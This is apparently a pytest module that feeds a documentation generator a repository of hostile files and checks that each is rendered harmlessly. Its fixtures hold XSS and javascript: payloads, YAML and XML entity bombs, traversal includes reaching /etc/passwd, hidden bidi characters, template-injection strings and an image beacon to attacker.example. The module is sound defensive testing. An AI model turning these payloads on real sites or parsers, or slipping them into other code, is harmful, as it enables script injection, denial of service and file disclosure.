"""Group C: contents. One repository holds every odd file; each row looks at its own."""

from __future__ import annotations

import json
import re
import sqlite3
import zlib
from pathlib import Path

import pytest
from heavy import anchors
from invariants import READER, Built, examine
from runs import Content, write_tree

CANARY = "CANARY-4711-outside"
NESTED = 5_000

BREAKS = "a = 1\u2028b = 2\u2029c\x85d = 3\x0b\x0ce\x1c\ndef after(): ...\n"
HTML = (
    '</pre><script>alert(1)</script><img src=x onerror=alert(1)><base href="//x"><meta http-equiv=refresh content=0>'
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><style>@import "x"</style><details>'
)
SCHEMES = [
    "javascript:alert(1)",
    "jav&#x61;script:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
]
FENCES = (
    '"""Doc.\n\n```\nnot closed\n\n````text\n~~~\n'
    + "`" * 20
    + "\n--> <details>\n[x]: javascript:alert(1)\n---\n# Not a heading\n"
    + '"""\n\ndef f(): ...\n'
)
MERMAID = 'x"]; click n1 "javascript:x" %%{init'

FILES: dict[Content, Content] = {
    # C01, C02
    "empty.py": "",
    "one.py": "x",
    "blank.py": "\n\n\n",
    "nul_early.py": b"a\0b\n",
    "nul_late.py": b"# a long file\n" * 5_000 + b"x = 1\0\n",
    # C03, C06, C07
    "latin.py": b"# caf\xe9\n\xff\xfe\ndef after(): ...\n",
    "crlf.py": b"a = 1\r\ndef after(): ...\r\n",
    "cr.py": b"a = 1\rb = 2\rc = 3\n",
    "mixed.py": b"a = 1\r\nb = 2\nc = 3\rd = 4\ndef after(): ...",
    "breaks.py": BREAKS,
    # C04, C05
    "codec/bom.py": b"\xef\xbb\xbffirst = 1\n",
    "codec/little.py": "first = 1\n".encode("utf-16"),
    "codec/big.py": b"\xfe\xff" + "first = 1\n".encode("utf-16-be"),
    "codec/wide.py": "first = 1\n".encode("utf-32"),
    "codec/cyrillic.py": "# -*- coding: cp1251 -*-\n# \u043f\u0440\u0438\u0432\u0435\u0442\nfirst = 1\n".encode("cp1251"),
    "codec/rot13.py": b"# -*- coding: rot13 -*-\nfirst = 1\n",
    "codec/none.py": b"# -*- coding: no_such_codec -*-\nfirst = '\xff'\n",
    "codec/long.py": b"# -*- coding: " + b"x" * 300_000 + b" -*-\nfirst = 1\n",
    # C10, C11, C17
    "deep/parens.py": "(" * NESTED,
    "deep/brackets.js": "[" * NESTED,
    "deep/braces.c": "{" * NESTED,
    "deep/calls.go": "f(" * NESTED,
    "deep/deep.json": "[" * 100_000 + "]" * 100_000,
    "deep/deep.toml": "a = " + "[" * 100_000,
    "deep/comments.ml": "(*" * NESTED,
    "deep/quotes.md": ">" * 10_000 + "x\n",
    "deep/lists.json": "[" + "[]," * 50_000 + "[]]",
    "bombs/alias.yaml": "a: &a [x,x,x,x]\n" + "".join(f"{b}: &{b} [*{a},*{a},*{a},*{a}]\n" for a, b in zip("abcdefghi", "bcdefghij", strict=True)),
    "bombs/entity.xml": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY x SYSTEM "../../outside.txt">]><l>&b;&x;</l>\n',
    # C12, C13
    "hang/a.js": "{ try { } catch { (, e",
    "hang/b.tf": "-+-*a(//",
    "hang/c.zig": "fn f() !A(struct {",
    "hang/insert.sql": "INSERT INTO t VALUES " + ",".join(["(1,'a',NULL)"] * 5_000) + ";\n",
    # C15, C16
    "long/name.py": "a" * 1_000_000 + " = 1\n",
    "long/string.py": "x = '" + "b c " * 250_000 + "'\n",
    "long/doc.py": '"""' + "word " * 200_000 + '"""\n',
    "long/doc.c": "/** " + "word " * 200_000 + "*/\nint total(void) { return 1; }\n",
    "many/overloads.cpp": "".join(f"int over(T{at} a) {{ return {at}; }}\n" for at in range(10_000)),
    "many/parameters.py": "def wide(" + ", ".join(f"p{at}" for at in range(65_000)) + "): ...\n",
    # C18, C19
    "bidi.py": "# \u202eevil\u2066\nx = '\u200b'\ny = '\U000e0041'\n",
    "selectors.py": "# \u2603\ufe0f is a sign, A\ufe01\ufe02\U000e0100 hides three\nx = 1\n",
    # C21–C25
    "docs/html.py": f'"""{HTML}"""\n\ndef f():\n    """{HTML}"""\n',
    "docs/html.md": f"# Title {HTML}\n\n{HTML}\n\n<script>alert(1)</script>\n",
    "docs/html.rst": f"Title {HTML}\n{'=' * 400}\n\n.. raw:: html\n\n   {HTML}\n",
    "docs/schemes.md": "# Schemes\n\n" + "".join(f"- [x]({scheme}) <{scheme}> ![y]({scheme})\n" for scheme in SCHEMES),
    "docs/image.md": "# Image\n\n![leak](https://attacker.example/x?leak)\n",
    "docs/fences.py": FENCES,
    "docs/fences.md": "# One\n\n```\nopen\n\n````\n# Two\n" + "~~~\n# Three\n",
    "docs/front.md": "---\ntitle: '<script>alert(1)</script>'\n---\n\n# After\n",
    "docs/pipes.py": "def f(a='|', b='\\\\|', c=\"`\", d='''\n|''') -> 'x|y':\n    '''Either | or `a|b`.'''\n",
    "docs/template.py": "def f():\n    '''{{ 7*7 }} {% raw %} {eval()} ${x}'''\n",
    # C26
    f"{MERMAID}/a.js": 'import {b} from "../end/b.js";\n',
    "end/b.js": f"import {{a}} from {json.dumps('../' + MERMAID + '/a.js')};\nexport const b = 1;\n",
    # C27, C28
    "image.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject>{HTML}</foreignObject></svg>\n',
    "search.js": "// </script><script>alert(1)</script> <!-- \u2028\nvar a = 1;\n",
    # C31
    "markdown/brackets.md": "[" * 6_400 + "\n",
    "markdown/title.md": '[a](b "' + "\\!" * 27 + "\n",
    "markdown/emphasis.md": "*a_b" * 5_000 + "\n",
    # C33–C37
    ".env": "PASSWORD=hunter2-secret\n",
    "id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\nhunter2-secret\n",
    "elf.py": b"\x7fELF\x02\x01\x01\0\0\0",
    "include/a.c": '#include "../../outside.txt"\n#include "/etc/passwd"\n',
    "include/b.md": "{{#include ../../outside.txt}}\n\n--8<-- \"../../outside.txt\"\n",
    "include/c.rst": ".. include:: ../../outside.txt\n.. literalinclude:: ../../outside.txt\n",
    "names.js": "function __proto__(){}\nfunction constructor(){}\nfunction toString(){}\nfunction hasOwnProperty(){}\n",
    "numbers.py": f"A = {'9' * 5_000}\nB = {2**70}\n",
    "numbers.toml": "a = 99999999999999999999999\nb = 0000-00-00\n",
    "numbers.json": '{"a": ' + "9" * 5_000 + ', "b": 1e999999}\n',
    "numbers.yaml": "a: " + "9" * 5_000 + "\nb: 1000000000000-01-01\n",
    # C38, C39
    "outputs.ipynb": json.dumps({
        "cells": [{"cell_type": "code", "source": ["shown = 1\n"], "metadata": {}, "execution_count": 1, "outputs": [
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": "QUJD" * 50_000, "text/html": [HTML, "OUTPUT-OF-A-CELL"]}}]}],
        "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}),
    "lfs.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n",
    "annex.bin": "/annex/objects/SHA256E-s1048576--4d7a.bin\n",
    # C42
    "docs/links.md": "# Links\n\n" + "".join(f"- [x](../../../outside{at}) [y](/abs{at}) [z](file:///etc/passwd) [w](missing{at}.md)\n" for at in range(25_000)),
    # C30
    "ansi.py": "# \x1b[2J\x1b]8;;http://x\x07 bell \x08\x08\nx = 1\n",
    # C40
    "cycle/a.py": "from cycle import b\nimport cycle.a\n",
    "cycle/b.py": "from cycle import a\nclass A(A): ...\n",
    "cycle/__init__.py": "",
}  # fmt: skip


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    place = tmp_path_factory.mktemp("contents")
    (place / "outside.txt").write_text(CANARY)
    write_tree(place / "repo", FILES)
    with open(place / "repo" / "huge.ipynb", "wb") as stream:  # C38: as large as 50 MB, and nothing to store
        stream.write(b'{"cells": [{"cell_type": "code", "source": ["hidden = 1"], "outputs": [{"data": "')
        stream.truncate(50 << 20)
    return examine(place / "repo", place, canaries=[CANARY.encode(), b"hunter2-secret"], max_seconds=60)


def headings(page: str) -> list[str]:
    tokens = READER.parse(page)
    return [
        tokens[at + 1].content
        for at, token in enumerate(tokens)
        if token.type == "heading_open" and token.tag == "h2"
    ]


def test_invariants(built: Built) -> None:
    """A book of odd contents is a book like any other."""
    assert built.violations == []


SKIPPED = {
    "nul_early.py": "binary",
    "elf.py": "binary",
    ".env": "secret",
    "id_rsa": "secret",
    "huge.ipynb": "too_large",
}


def test_what_is_skipped(built: Built) -> None:
    """C02, C33, C34, C38: only what is no text, too large or secret has no page; a notebook of 50 MB is too large, too."""
    found = {path: entry["reason"] for path, entry in built.files.items() if entry["outcome"] == "skipped"}
    assert found == SKIPPED


def test_late_nul_is_a_picture(built: Built) -> None:
    """C02: a NUL beyond what decides about text is shown as a symbol, and nothing after it is cut."""
    assert "x = 1␀\n```" in built.page("nul_late.py")


@pytest.mark.parametrize(
    "path, lines",
    [("empty.py", 0), ("one.py", 1), ("blank.py", 3), ("cr.py", 1), ("mixed.py", 4), ("breaks.py", 2)],
)
def test_lines_are_counted_by_line_feeds(path: str, lines: int, built: Built) -> None:
    """C01, C06, C07: neither CR nor U+2028 nor a form feed ends a line."""
    assert built.files[path]["lines"] == lines


@pytest.mark.parametrize("path, line", [("latin.py", 3), ("crlf.py", 2), ("mixed.py", 4), ("breaks.py", 2)])
def test_symbols_are_on_their_lines(path: str, line: int, built: Built) -> None:
    """C03, C06, C07: what follows odd bytes is found where the parser sees it."""
    assert re.search(rf"\[`[\w.]*\bafter` L{line}\]", built.keywords(path))


def test_bytes_that_do_not_decode_are_noted(built: Built) -> None:
    """C03: the page says that bytes were lost, the first of them and in which line; no codec is guessed."""
    note = "decode_lossy: byte 0xe9 is not UTF-8; such bytes are shown as � ([L1]"
    page = built.page("latin.py")
    assert (note in page, "# caf�\n��\n" in page, "| Encoding |" in page) == (True, True, False)


@pytest.mark.parametrize(
    "path",
    sorted(
        str(name)
        for name in FILES
        if str(name).startswith(("deep/", "bombs/", "hang/", "markdown/", "long/"))
    ),
)
def test_bombs_are_documented(path: str, built: Built) -> None:
    """C10–C12, C14, C15, C17, C31: deep nesting, aliases, entities and long lines cost nobody their page."""
    assert built.outcome(path) == "documented"


def test_aliases_are_not_expanded(built: Built) -> None:
    """C17: a YAML bomb of 500 bytes makes a small page."""
    assert len(built.page("bombs/alias.yaml")) < 20_000


def test_hidden_characters_are_noted(built: Built) -> None:
    """C18: the page counts hidden characters and shows them."""
    page = built.page("bidi.py")
    note = "hidden_unicode: 4 hidden or bidirectional characters (U+200B, U+202E, U+2066, U+E0041)"
    assert (note in page, "[U+202E]evil[U+2066]" in page, "\u202e" in page) == (True, True, False)


def test_characters_that_nobody_sees_are_shown(built: Built) -> None:
    """C19: tag characters and zero-width spaces are marks on the page, and counted in its note."""
    page = built.page("bidi.py")
    assert ("[U+200B]" in page, "[U+E0041]" in page, "\u200b" in page, "\U000e0041" in page) == (
        True,
        True,
        False,
        False,
    )


def test_selectors_that_hide_a_text_are_shown(built: Built) -> None:
    """C19: variation selectors in a row are marks on the page and counted in its note; one behind its sign stays."""
    page = built.page("selectors.py")
    assert "\u2603\ufe0f is a sign, A[U+FE01][U+FE02][U+E0100] hides three" in page
    assert "hidden_unicode: 3 hidden or bidirectional characters (U+FE01, U+FE02, U+E0100)" in page


@pytest.mark.parametrize(
    "path", ["docs/html.py", "docs/html.md", "docs/html.rst", "docs/front.md", "image.svg", "search.js"]
)
def test_html_is_text(path: str, built: Built) -> None:
    """C21, C27, C28: HTML of the repository is text on its page."""
    page = built.page(path)
    kinds = {child.type for token in READER.parse(page) for child in (token, *(token.children or ()))}
    assert ("onerror=alert(1)" in page or "alert(1)" in page, kinds & {"html_block", "html_inline"}) == (
        True,
        set(),
    )


def test_no_scheme_gets_out(built: Built) -> None:
    """C22, C23: whatever a document links to or embeds, the book links to its own pages alone."""
    targets = set()
    for path in ("docs/schemes.md", "docs/image.md"):
        for token in READER.parse(built.page(path)):
            targets |= {
                str(c.attrGet("href") or c.attrGet("src"))
                for c in token.children or ()
                if c.type in ("link_open", "image")
            }
    assert {target for target in targets if ":" in target or target[:2] in ("//", "\\\\")} == set()


@pytest.mark.parametrize("path", ["docs/fences.py", "docs/fences.md", "docs/html.md"])
def test_sections_are_those_of_the_page(path: str, built: Built) -> None:
    """C24: no fence, rule or heading of the repository adds or swallows a section of its page."""
    known = {
        "File Metadata", "File Purpose", "Original Source", "High-Level Overview", "Detailed Analysis", "Architecture & Design",
        "Dependencies", "Code Patterns & Idioms", "Performance Considerations", "Security & Safety", "Testing & Usage", "Related Files",
        "Cross-References",
    }  # fmt: skip
    found = headings(built.page(path))
    assert (set(found) - known, len(found) == len(set(found)), found[-1]) == (set(), True, "Cross-References")


@pytest.mark.parametrize("path", ["docs/fences.py", "docs/html.md", "crlf.py", "docs/pipes.py"])
def test_source_is_shown_whole(path: str, built: Built) -> None:
    """C24: the first fence of a page is the file, byte for byte but for carriage returns."""
    fence = next(token for token in READER.parse(built.page(path)) if token.type == "fence")
    assert fence.content == (built.root / path).read_text().replace("\r", "")


def test_diagram_holds_no_commands(built: Built) -> None:
    """C26: a folder's name cannot add a line, a click or a style to a diagram."""
    pages = [text for _, text in built.pages() if "```mermaid" in text]
    diagrams = [token.content for text in pages for token in READER.parse(text) if token.info == "mermaid"]
    line = re.compile(r'graph \w\w|\s*f\d+\["[\w ./#;-]*"\]|\s*f\d+ -->(\|\d+\|)? f\d+')
    bad = [row for text in diagrams for row in text.splitlines() if not line.fullmatch(row)]
    assert (diagrams != [], bad) == (True, [])


def test_include_directives_are_text(built: Built) -> None:
    """C35: nothing that a document or a source includes is opened."""
    assert all(built.outcome(f"include/{name}") == "documented" for name in ("a.c", "b.md", "c.rst"))
    inside = Path("/etc/passwd").read_text().splitlines()
    assert not [name for name, text in built.pages() if any(line in text for line in inside)]


def test_names_that_trap_scripts(built: Built) -> None:
    """C36: functions called `__proto__` and `constructor` are in the index like any other."""
    index = "".join(text for name, text in built.pages() if name.startswith("keywords"))
    assert [
        name
        for name in ("__proto__", "constructor", "toString", "hasOwnProperty")
        if f"- `{name}`:" not in index
    ] == []


@pytest.mark.parametrize(
    "name, encoding",
    [
        ("bom", "utf-8-sig"),
        ("little", "utf-16"),
        ("big", "utf-16"),
        ("wide", "utf-32"),
        ("cyrillic", "cp1251"),
        ("rot13", ""),
        ("none", ""),
        ("long", ""),
    ],
)
def test_first_name_is_free_of_the_encoding(name: str, encoding: str, built: Built) -> None:
    """C04, C05: text in a known codec is decoded and says so; a codec that is none of text is not obeyed."""
    entry = built.files[f"codec/{name}.py"]
    page, keywords = built.page(f"codec/{name}.py"), built.keywords(f"codec/{name}.py")
    assert (entry.get("encoding", "").lower().startswith(encoding), "`first`" in keywords) == (True, True)
    assert ("encoding" in entry, "\nfirst = " in page) == (encoding != "", True)


def test_codec_that_is_unknown_is_noted(built: Built) -> None:
    """C05: bytes that the stated codec cannot explain are shown as lost, and counted."""
    assert "decode_lossy" in built.page("codec/none.py")


@pytest.mark.parametrize("path", ["long/name.py", "long/string.py", "long/doc.py", "long/doc.c"])
def test_very_long_tokens_are_cut(path: str, built: Built) -> None:
    """C15: beside the source itself, no page repeats a name, a string or a comment of a million characters."""
    size = len((built.root / path).read_bytes())
    assert (len(built.page(path)) < size + 30_000, len(built.keywords(path)) < 5_000) == (True, True)


@pytest.mark.parametrize(
    "path, note",
    [
        ("long/name.py", "truncated: 1 name is cut at 400 characters"),
        ("long/doc.py", "truncated: 1 comment is cut behind 6,000 characters"),
        ("long/doc.c", "truncated: 1 comment is cut behind 6,000 characters"),
        ("long/string.py", ""),  # no page shows it but as the source, which is whole
    ],
)
def test_what_is_cut_is_noted(path: str, note: str, built: Built) -> None:
    """C15: a name or a comment that is not kept whole says so."""
    page = built.page(path)
    assert note in page if note else "truncated" not in page


def test_words_of_the_search_are_short(built: Built) -> None:
    """C15: the search knows no word of more than 200 bytes; a name has the 400 characters that its page shows."""
    with sqlite3.connect(built.book / "book.db") as database:
        found = {
            table: max(
                len(word.encode())
                for (words,) in database.execute(f"SELECT {column} FROM {table}")
                for word in zlib.decompress(words).decode().split("\n")
            )
            for table, column in (("word_block", "words"), ("name_block", "names"))
        }
    assert (found["word_block"] <= 200, found["name_block"]) == (True, 400)


def test_overloads_have_anchors_of_their_own(built: Built) -> None:
    """C16: ten thousand functions of one name are as many headings, each with an anchor of its own, and none is left out."""
    found = anchors(built.page("many/overloads.cpp"))
    overloads = [anchor for anchor in found if anchor.startswith("over")]
    assert (len(overloads), len(set(found))) == (10_000, len(found))


def test_parameters_are_capped(built: Built) -> None:
    """C16: 65,000 parameters are not listed one by one in the signature."""
    size = len((built.root / "many/parameters.py").read_bytes())
    assert len(built.page("many/parameters.py")) < size + 20_000


def test_numbers_stay_text(built: Built) -> None:
    """C37: no number or date is too large to be shown."""
    assert {built.outcome(f"numbers.{ending}") for ending in ("py", "toml", "json", "yaml")} == {"documented"}
    assert all("9" * 5_000 in built.page(f"numbers.{ending}") for ending in ("py", "json", "yaml"))
    assert str(2**70) in built.page("numbers.py")
    assert "b = 0000-00-00" in built.page("numbers.toml") and "1000000000000-01-01" in built.page(
        "numbers.yaml"
    )


def test_cycles_end(built: Built) -> None:
    """C40: a class that is its own base and modules that import each other and themselves are documented."""
    assert {built.outcome(f"cycle/{name}.py") for name in ("a", "b", "__init__")} == {"documented"}


def test_templates_are_text(built: Built) -> None:
    """C29: what a template engine would run is shown as it is written, and outside of code without its marks.

    Builders that run templates run them in code, too: a file at the top of the book has GitHub Pages take it as it is.
    """
    page = built.page("docs/template.py")
    told = page[: page.index("## Original Source")] + page[page.index("## Detailed Analysis") :]
    assert "{{ 7*7 }} {% raw %} {eval()} ${x}" in page
    assert (r"\{\{ 7\*7 }} \{\% raw %}" in told, "{{" in told, "{%" in told) == (True, False, False)
    assert (built.book / ".nojekyll").read_bytes() == b""


def test_outputs_of_notebooks_are_dropped(built: Built) -> None:
    """C38: pages speak of the source of cells; what cells printed is dropped, and that is noted."""
    page = built.page("outputs.ipynb")
    told = page[: page.index("## Original Source")] + page[page.index("## Detailed Analysis") :]
    assert ("truncated: 1 output" in told, "shown = 1" in told, "OUTPUT-OF" in told) == (True, True, False)


@pytest.mark.parametrize("path", ["lfs.bin", "annex.bin"])
def test_pointers_are_recognised(path: str, built: Built) -> None:
    """C39: a pointer to a large file is called that."""
    assert "a pointer to a large file" in built.page(path)


def test_links_that_lead_nowhere_are_plain(built: Built) -> None:
    """C42: 100,000 links out of the repository, to other schemes and to nothing become no link; their number is told."""
    page = built.page("docs/links.md")
    outside = page[: page.index("## Original Source")] + page[page.index("## Detailed Analysis") :]
    found = [
        str(c.attrGet("href"))
        for t in READER.parse(outside)
        for c in t.children or ()
        if c.type == "link_open"
    ]
    assert [target for target in found if re.search(r"outside\d|abs\d|passwd|missing\d", target)] == []
    assert "truncated: the first 500 of 100,000 links are listed" in outside
    assert "\n99,900 more links.\n" in outside
    assert (
        "\n125 relative links of the first 500 of 100,000 links lead to nothing in the repository.\n"
        in outside
    )
